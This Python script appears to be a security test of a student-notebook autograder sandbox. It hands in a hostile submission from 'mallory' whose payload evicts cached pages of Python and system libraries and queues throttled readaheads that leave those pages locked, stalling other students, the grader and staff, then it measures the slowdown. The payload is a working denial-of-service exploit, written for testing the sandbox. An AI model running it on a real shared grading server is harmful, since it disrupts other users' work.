"""a01: priority inversion through the new blkio throttle. Mallory's kernel evicts clean pages of the Python
installation/venv/usr-lib (posix_fadvise DONTNEED) and queues one-page readaheads (WILLNEED) of them: each is a
bio held in mallory's throttle queue (1,000 reads/s) with its page cache page LOCKED until dispatched. Any other
process (the next student's kernel and observer, the grader itself, the TA) that touches such a page waits for
mallory's queue to drain, also after mallory's sandbox is gone. Usage: a01_throttle_page_lock.py attack|control"""
import os, sys, time, threading, random, json
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common import *

MODE = sys.argv[1] if len(sys.argv) > 1 else "attack"
NPAGES = int(os.environ.get("NPAGES", "150000"))
PAYLOAD = r'''
import os, sys, time, random
_t0 = time.time()
_files = []
for _root in sorted(set([sys.prefix, sys.base_prefix, "/usr/lib", "/usr/local/lib"] + [p for p in sys.path if p.startswith("/")])):
    for _d, _ds, _fs in os.walk(_root):
        for _f in _fs:
            _p = os.path.join(_d, _f)
            try:
                _st = os.stat(_p, follow_symlinks=False)
            except OSError:
                continue
            if _st.st_size >= 8192 and (_st.st_mode & 0o170000) == 0o100000:
                _files.append((_p, _st.st_size))
random.seed(1)
random.shuffle(_files)
_queued = 0; _nf = 0; _err = None
_NP = __NPAGES__
for _p, _sz in _files:
    if _queued >= _NP:
        break
    try:
        _fd = os.open(_p, os.O_RDONLY)
    except OSError:
        continue
    try:
        os.posix_fadvise(_fd, 0, 0, os.POSIX_FADV_DONTNEED)
        for _off in range(0, _sz, 8192):
            os.posix_fadvise(_fd, _off, 4096, os.POSIX_FADV_WILLNEED)
            _queued += 1
            if _queued >= _NP:
                break
        _nf += 1
    except OSError as e:
        _err = repr(e)
    finally:
        os.close(_fd)
print(f"A01 files={len(_files)} touched={_nf} queued={_queued} in {time.time()-_t0:.1f}s err={_err}")
'''.replace("__NPAGES__", str(NPAGES))
if MODE == "control":
    PAYLOAD = "print('A01 control: no I/O')"

course = make_course("a01" + MODE)
hand_in(course, "aaron", honest())
hand_in(course, "mallory", hostile(append={"quiz_q5": PAYLOAD}))
hand_in(course, "zoe", honest())
hand_in(course, "zoey", honest())

# host-side probe: time reads of single pages of venv/site files, as any other process of the machine would
stop = False
lat = []
def probe():
    files = []
    for root in ("CLONE/.venv/lib", "/usr/lib/x86_64-linux-gnu"):
        for d, _, fs in os.walk(root):
            for f in fs:
                p = os.path.join(d, f)
                try:
                    if os.path.isfile(p) and not os.path.islink(p) and os.path.getsize(p) > 65536:
                        files.append(p)
                except OSError:
                    pass
    rnd = random.Random(7)
    while not stop:
        p = rnd.choice(files)
        try:
            fd = os.open(p, os.O_RDONLY)
            sz = os.fstat(fd).st_size
            off = rnd.randrange(0, sz // 8192) * 8192
            t = time.time(); os.pread(fd, 1, off); dt = time.time() - t
            os.close(fd)
            lat.append((round(time.time() - T0, 1), round(dt, 3), p, off))
        except OSError:
            pass
        time.sleep(0.05)
T0 = time.time()
th = threading.Thread(target=probe, daemon=True); th.start()
p, dt = grade(course, extra=("--workers", "1"))
stop = True
sc = scores(course)
leak_scan(course)
ls = sorted(l[1] for l in lat)
print("probe reads:", len(ls), "median", ls[len(ls)//2] if ls else None, "p99", ls[int(len(ls)*.99)] if ls else None, "max", ls[-1] if ls else None)
print("slowest probe reads:", sorted(lat, key=lambda l: -l[1])[:8])
print("reads >1s:", sum(1 for l in ls if l > 1))
try:
    for i, t in outputs_grep(course, "mallory", "A01"):
        print("mallory cell", i, t[:300])
except Exception as e:
    print("outputs", e)
os.system(f"ls -la --time-style=full-iso {course}/autograded/*/ps1_memory/ 2>/dev/null | grep ipynb; ls {course}/grading_logs 2>/dev/null")
